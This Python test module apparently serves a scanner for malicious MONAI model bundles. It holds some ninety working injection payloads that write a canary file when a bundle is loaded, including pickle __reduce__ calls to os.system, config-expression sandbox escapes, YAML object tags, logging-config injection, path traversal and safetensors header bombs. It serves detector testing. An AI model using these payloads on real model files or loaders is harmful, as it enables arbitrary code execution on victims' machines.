"""Malicious bundles: each entry changes the sample bundle so that loading or running it would write a canary file."""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

from tests.bundle.sample import read_config, write_config

__all__ = ["ATTACKS", "LIVE", "Attack"]

Attack = Callable[[Path, Path], str]
"""Changes the bundle (first argument) to write the canary (second); gives a word that a finding must contain."""


def _set(name: str, change: Callable[[dict[str, Any], str], str]) -> Attack:
    def attack(bundle: Path, canary: Path) -> str:
        config = read_config(bundle, name)
        expected = change(config, canary.as_posix())
        write_config(bundle, name, config)
        return expected

    return attack


def _expression(code: str, expected: str, key: str = "output_dir") -> Attack:
    """An expression; ``CANARY`` in it stands for the canary's path."""

    def change(config: dict[str, Any], canary: str) -> str:
        config[key] = "$" + code.replace("CANARY", canary)
        return expected

    return _set("inference", change)


def _imports(code: str, expected: str) -> Attack:
    return _expression(code, expected, key="imports")


def _component(component: dict[str, Any], expected: str, config_name: str = "inference") -> Attack:
    def change(config: dict[str, Any], canary: str) -> str:
        config["handlers" if config_name == "inference" else "loss"] = json.loads(
            json.dumps(component).replace("CANARY", canary)
        )
        return expected

    return _set(config_name, change)


class _Touch:
    """Writes the canary when unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.canary}",)


def _pickle(write: Callable[[Path, Any], None], expected: str) -> Attack:
    def attack(bundle: Path, canary: Path) -> str:
        write(bundle / "models" / "model.pt", _Touch(canary))
        return expected

    return attack


def _zip_pickle(path: Path, payload: Any) -> None:
    torch.save({"weight": torch.zeros(2), "bad": payload}, path)


def _bad_crc(path: Path, payload: Any) -> None:
    _zip_pickle(path, payload)
    data = bytearray(path.read_bytes())
    at = data.rindex(b"PK\x01\x02")
    data[at + 16 : at + 20] = b"\0\0\0\0"
    first = data.index(b"PK\x01\x02")
    data[first + 16 : first + 20] = b"\x01\x02\x03\x04"
    path.write_bytes(bytes(data))


def _bare_pickle(path: Path, payload: Any) -> None:
    path.write_bytes(pickle.dumps(payload))


def _legacy(path: Path, payload: Any) -> None:
    torch.save({"bad": payload}, path, _use_new_zipfile_serialization=False)


def _second_pickle(path: Path, payload: Any) -> None:
    torch.save({"weight": torch.zeros(2)}, path)
    with zipfile.ZipFile(path, "a") as archive:
        name = archive.namelist()[0].partition("/")[0]
        archive.writestr(f"{name}/other.pkl", pickle.dumps(payload))


def _trailing_pickle(path: Path, payload: Any) -> None:
    members = io.BytesIO()
    torch.save({"weight": torch.zeros(2)}, members)
    with zipfile.ZipFile(members) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            target.writestr(info.filename, data + pickle.dumps(payload) if info.filename.endswith("data.pkl") else data)


def _gadget_pickle(path: Path, payload: Any) -> None:
    """No os.system in it: MONAI's own instantiate does the work."""

    class Gadget:
        def __reduce__(self) -> tuple[Any, ...]:
            from monai.utils.module import instantiate

            return instantiate, ("os.mkdir", "default"), None

    torch.save({"bad": Gadget()}, path)


def _stack_global(path: Path, payload: Any) -> None:
    members = io.BytesIO()
    torch.save({"weight": torch.zeros(2)}, members)
    with zipfile.ZipFile(members) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            data = pickle.dumps(payload, protocol=4) if info.filename.endswith("data.pkl") else source.read(info)
            target.writestr(info.filename, data)


def _torchscript(bundle: Path, canary: Path) -> str:
    # what torch.jit.save writes, by hand: the code folder is what a loader would compile and run
    with zipfile.ZipFile(bundle / "models" / "model.pt", "w") as archive:
        archive.writestr("model/data.pkl", pickle.dumps({}, protocol=2))
        archive.writestr("model/code/__torch__.py", f"def forward(self):\n  torch.save(self, '{canary}')\n")
        archive.writestr("model/constants.pkl", pickle.dumps((), protocol=2))
    return "TorchScript"


def _file(name: str, text: str, expected: str) -> Attack:
    def attack(bundle: Path, canary: Path) -> str:
        target = bundle / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text.replace("CANARY", canary.as_posix()))
        return expected

    return attack


def _link(bundle: Path, canary: Path) -> str:
    (bundle / "docs" / "notes.md").symlink_to(canary.parent)
    return "symbolic link"


def _fifo(bundle: Path, canary: Path) -> str:
    os.mkfifo(bundle / "configs" / "extra.json")
    return "neither a file nor a folder"


def _logging(line: str, replacement: str, expected: str) -> Attack:
    def attack(bundle: Path, canary: Path) -> str:
        path = bundle / "configs" / "logging.conf"
        text = path.read_text()
        assert line in text
        path.write_text(text.replace(line, replacement.replace("CANARY", canary.as_posix())))
        return expected

    return attack


def _duplicate_key(bundle: Path, canary: Path) -> str:
    path = bundle / "configs" / "inference.json"
    evil = f'"output_dir": "$open(\'{canary.as_posix()}\', \'w\')",\n  "output_dir"'
    path.write_text(path.read_text().replace('"output_dir"', evil, 1))
    return "twice"


def _two_separators(config: dict[str, Any], canary: str) -> str:
    config["evaluator#amp"] = False
    config["evaluator::amp"] = True
    return "twice"


def _homoglyph_id(config: dict[str, Any], canary: str) -> str:
    config["n\u0435twork_def"] = config["network_def"]  # a Cyrillic e
    return "outside ASCII"


def _invisible(config: dict[str, Any], canary: str) -> str:
    config["note"] = "safe \u202e txet desrever"
    return "invisible"


def _key_injection(config: dict[str, Any], canary: str) -> str:
    config[f"a] or open('{canary}', 'w') or [b"] = {"v": "$@#w", "w": 1}
    return "unusual id"


def _file_macro(config: dict[str, Any], canary: str) -> str:
    config["x"] = "%/tmp/other.json#run"
    return "macro"


def _module_alias(config: dict[str, Any], canary: str) -> str:
    config.update(alias="@imports#0", note=f"$@alias.replace('a', '{canary}')")
    return "holds an import"


def _module_macro(config: dict[str, Any], canary: str) -> str:
    config.update(copy="%imports#0", note=f"$@copy.replace('a', '{canary}')")
    return "holds an import"


def _module_relative(config: dict[str, Any], canary: str) -> str:
    config["group"] = {"imports": ["$import os"], "note": "$@#imports#0.replace('a', 'b')"}
    return "holds an import"


def _own_compiler(config: dict[str, Any], canary: str) -> str:
    options = {"cpp.cxx": "$(None, @bundle_root + '/docs/build.txt')"}
    config["train"]["trainer"].update(compile=True, compile_kwargs={"options": options})
    return "compile_kwargs"


def _loader_as_callable(config: dict[str, Any], canary: str) -> str:
    config["loader"] = {"_target_": "LoadImage", "_mode_": "callable"}
    config["note"] = f"$@loader('subprocess.Popen', args=['touch', '{canary}'])"
    return "LoadImage as a callable"


def _overlay_argument(bundle: Path, canary: Path) -> str:
    write_config(bundle, "evaluate", {"preprocessing#transforms#0#reader": "subprocess.Popen"})
    return "reader"


def _import_in_other_config(bundle: Path, canary: Path) -> str:
    write_config(bundle, "evaluate", {"imports": ["$import subprocess"]})
    return "subprocess"


def _metadata_expression(config: dict[str, Any], canary: str) -> str:
    config["description"] = f"$open('{canary}', 'w')"
    return "open"


def _oversized_safetensors(bundle: Path, canary: Path) -> str:
    (bundle / "models" / "model.safetensors").write_bytes(struct.pack("<Q", 1 << 40) + b"{}")
    return "header"


def _overlapping_safetensors(bundle: Path, canary: Path) -> str:
    entry = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    header = json.dumps({"a": entry, "b": entry}).encode()
    (bundle / "models" / "model.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + bytes(8))
    return "does not describe"


_OPEN = "open('CANARY', 'w')"

LIVE: dict[str, Attack] = {
    "plain open": _expression(_OPEN, "open"),
    "eval": _expression(f'eval("{_OPEN}")', "eval"),
    "exec": _expression(f'exec("{_OPEN}")', "exec"),
    "dunder import": _expression("__import__('os').mkdir('CANARY')", "mkdir"),
    "builtins by subclass walk": _expression(
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Quitter'][0]"
        ".__init__.__globals__['__builtins__']['open']('CANARY', 'w')",
        "__subclasses__",
    ),
    "getattr": _expression("getattr(torch.os, 'mkdir')('CANARY')", "getattr"),
    "module inside torch": _expression("torch.os.mkdir('CANARY')", "torch.os.mkdir"),
    "numpy file writer": _expression("numpy.savetxt('CANARY', [1])", "numpy.savetxt"),
    "numpy tofile": _expression("numpy.zeros(1).tofile('CANARY')", "tofile"),
    "torch save": _expression("torch.save(1, 'CANARY')", "torch.save"),
    "lambda default": _expression("(lambda f=open: f('CANARY', 'w'))()", "open"),
    "lambda hides a name": _expression("(lambda torch: torch('CANARY', 'w'))(open)", "hides"),
    "comprehension call": _expression("[f('CANARY', 'w') for f in [open]]", "call of 'f'"),
    "comprehension hides a name": _expression("[list('CANARY', 'w') for list in [open]]", "hides"),
    "walrus": _expression("(f := open) and f('CANARY', 'w')", "NamedExpr"),
    "f-string": _expression("f\"{open('CANARY', 'w')}\"", "open"),
    "map": _expression("list(map(torch.os.mkdir, ['CANARY']))", "mkdir"),
    "sorted key": _expression("sorted(['CANARY'], key=torch.os.mkdir)", "mkdir"),
    "conditional": _expression(f"1 if {_OPEN} else 2", "open"),
    "subscript of a list of functions": _expression("[open][0]('CANARY', 'w')", "called"),
    "dict dispatch": _expression("{'f': open}['f']('CANARY', 'w')", "open"),
    "starred arguments": _expression("open(*['CANARY', 'w'])", "open"),
    "full-width letters": _expression("ｏｐｅｎ('CANARY', 'w')", "takes for others"),
    "MONAI gadget": _expression(
        "monai.utils.module.instantiate('os.mkdir', 'default', path='CANARY')", "monai.utils.module.instantiate"
    ),
    "in _desc_": _component({"_target_": "StatsHandler", "_desc_": f"${_OPEN}"}, "open"),
    "in _requires_": _component({"_target_": "StatsHandler", "_requires_": [f"${_OPEN}"]}, "open"),
    "in _disabled_": _component({"_target_": "StatsHandler", "_disabled_": f"${_OPEN}"}, "open"),
    "target os": _component({"_target_": "os.mkdir", "path": "CANARY"}, "os.mkdir"),
    "target builtins": _component({"_target_": "builtins.open", "file": "CANARY", "mode": "w"}, "builtins.open"),
    "target subprocess": _component({"_target_": "subprocess.run", "args": ["touch", "CANARY"]}, "subprocess.run"),
    "target computed": _component({"_target_": "$'os.' + 'mkdir'", "path": "CANARY"}, "computed"),
    "target by reference": _component({"_target_": "@evil", "path": "CANARY"}, "computed"),
    "target nested deep": _component(
        {"_target_": "StatsHandler", "name": {"a": [{"b": {"_target_": "os.mkdir", "path": "CANARY"}}]}}, "os.mkdir"
    ),
    "target through a module": _component({"_target_": "torch.serialization.os.mkdir", "path": "CANARY"}, "os.mkdir"),
    "target run_cmd": _component(
        {"_target_": "monai.utils.misc.run_cmd", "cmd_list": ["touch", "CANARY"]}, "monai.utils.misc.run_cmd"
    ),
    "reader names a program": _component(
        {"_target_": "LoadImage", "reader": "subprocess.Popen", "args": ["touch", "CANARY"]}, "subprocess.Popen"
    ),
}
"""Attacks that do write the canary when MONAI resolves ``output_dir`` or ``handlers``: the control group."""

ATTACKS: dict[str, Attack] = {
    **LIVE,
    "file macro": _set("inference", _file_macro),
    "mode debug": _component({"_target_": "StatsHandler", "_mode_": "debug"}, "_mode_"),
    "debug argument": _component({"_target_": "StatsHandler", "_debug_": True}, "_debug_"),
    "import os under another name": _imports("import os as monai", "usual names"),
    "import subprocess": _imports("import subprocess", "subprocess"),
    "from import": _imports("from os import system", "os.system"),
    "import of shipped code": _imports("import scripts", "scripts"),
    "relative import": _imports("from . import x", "import"),
    "two statements": _imports("import os; os.system('touch CANARY')", "import"),
    "importlib": _imports("import importlib", "importlib"),
    "reference to an import": _expression("@imports#0.os.mkdir('CANARY')", "mkdir"),
    "reference in a string": _expression("'@in CANARY @in'", "reference inside a string"),
    "format method": _expression("'{0.__class__}'.format(@device)", "format"),
    "percent formatting": _expression("'%s' % @device", "formatting"),
    "format computed": _expression('f"{@epochs:{@device}}"', "format"),
    "endless power": _expression("9 ** 9 ** 9", "power"),
    "unsafe torch.load": _expression(
        "torch.load(@bundle_root + '/models/model.pt', weights_only=False)", "weights_only"
    ),
    "torch.load with a pickle module": _expression("torch.load('model.pt', pickle_module=@evil)", "pickle_module"),
    "torch.hub": _expression("torch.hub.load('a/b', 'c')", "torch.hub.load"),
    "torch.jit": _expression("torch.jit.load('model.pt')", "torch.jit.load"),
    "load a library": _expression("torch.ops.load_library('x.so')", "load_library"),
    "hidden keyword arguments": _expression("monai.data.DataLoader(@dataset, **@evil)", "hides"),
    "allow_pickle": _component(
        {"_target_": "LoadImage", "reader": "NumpyReader", "allow_pickle": True}, "allow_pickle"
    ),
    "writer names a program": _component({"_target_": "SaveImage", "writer": "os.system"}, "writer"),
    "merger names a program": _component({"_target_": "PatchInferer", "merger_cls": "os.system"}, "merger_cls"),
    "target downloads": _component({"_target_": "monai.apps.download_url", "url": "https://x"}, "download_url"),
    "target pickles": _component({"_target_": "pickle.load", "file": "x"}, "pickle.load"),
    "target of a script": _component({"_target_": "scripts.networks.Evil"}, "scripts.networks.Evil"),
    "target opens a bundle": _component({"_target_": "medseg.training.train_bundle"}, "train_bundle"),
    "homoglyph in a target": _component({"_target_": "m\u043enai.losses.DiceLoss"}, "not on the list"),
    "in train.json": _component({"_target_": "os.mkdir", "path": "CANARY"}, "os.mkdir", "train"),
    "expression in metadata": _set("metadata", _metadata_expression),
    "duplicate key": _duplicate_key,
    "two separators": _set("inference", _two_separators),
    "homoglyph in an id": _set("inference", _homoglyph_id),
    "bidirectional text": _set("inference", _invisible),
    "id becomes code": _set("inference", _key_injection),
    "argument by overlay": _overlay_argument,
    "import by overlay": _import_in_other_config,
    "module by reference": _expression("@imports#0.replace('a', 'CANARY')", "holds an import"),
    "module out of the list of imports": _expression("[m.replace('a', 'b') for m in @imports]", "holds an import"),
    "module by another name": _set("inference", _module_alias),
    "module by macro": _set("inference", _module_macro),
    "module by relative reference": _set("inference", _module_relative),
    "compiler of its own": _set("train", _own_compiler),
    "reader by position": _set("inference", _loader_as_callable),
    "reader handed on": _expression("list(map(monai.transforms.LoadImage, ['os.system']))", "handed on"),
    "file name that leads out": _component(
        {"_target_": "CheckpointSaver", "save_dir": ".", "key_metric_filename": "../../.profile"}, "file name"
    ),
    "not JSON": _file("configs/inference.json", "{'a': 1}", "JSON"),
    "nested too deeply": _file("configs/deep.json", "[" * 100_000 + "]" * 100_000, "JSON"),
    "YAML config": _file("configs/train.yml", "a: !!python/object/apply:os.system ['touch CANARY']", "YAML"),
    "large file over http": _file("large_files.yml", "large_files:\n- path: a.pt\n  url: http://x/a.pt\n", "http://"),
    "large file outside": _file("large_files.yml", "- path: ../../.bashrc\n  url: https://x/a\n", "path is"),
    "large file with a tag": _file("large_files.yml", "- path: !!python/name:os.system\n", "not readable as YAML"),
    "script that hides a module": _file("glob.py", "open('CANARY', 'w')", "Python code"),
    "package": _file("scripts/__init__.py", "open('CANARY', 'w')", "Python code"),
    "native code": _file("models/ops.so", "", "native code"),
    "path file": _file("evil.pth", "import os; os.system('touch CANARY')", "Python runs"),
    "pickle file": _file("data/cache.pkl", "", "pickle"),
    "numpy file": _file("data/cache.npy", "", "pickle"),
    "TorchScript file": _file("models/model.ts", "", "TorchScript"),
    "unknown file": _file("models/model.bin", "", "unknown kind"),
    "names in two cases": _file("configs/Inference.json", "{}", "case only"),
    "homoglyph in a file name": _file("configs/inferenc\u0435.json", "{}", "ASCII"),
    "symbolic link": _link,
    "fifo": _fifo,
    "logging arguments": _logging("args=(sys.stdout,)", "args=(open('CANARY', 'w'),)", "args"),
    "logging class": _logging("class=StreamHandler", "class=__import__('os').mkdir('CANARY')", "class"),
    "logging file handler": _logging("class=StreamHandler", "class=FileHandler", "FileHandler"),
    "logging formatter": _logging("[formatter_fullFormatter]", "[formatter_fullFormatter]\nclass=os.system", "class"),
    "logging interpolation": _logging("args=(sys.stdout,)", "evil=open('CANARY')\nargs=(%(evil)s,)", "evil"),
    "pickle in a torch archive": _pickle(_zip_pickle, "posix.system"),
    "pickle with a bad checksum": _pickle(_bad_crc, "cannot be read"),
    "bare pickle": _pickle(_bare_pickle, "not a PyTorch zip"),
    "legacy torch format": _pickle(_legacy, "not a PyTorch zip"),
    "second pickle": _pickle(_second_pickle, "other.pkl"),
    "pickle after the pickle": _pickle(_trailing_pickle, "follows the end"),
    "MONAI gadget in a pickle": _pickle(_gadget_pickle, "instantiate"),
    "newer pickle protocol": _pickle(_stack_global, "STACK_GLOBAL"),
    "TorchScript as weights": _torchscript,
    "safetensors header bomb": _oversized_safetensors,
    "safetensors overlap": _overlapping_safetensors,
}
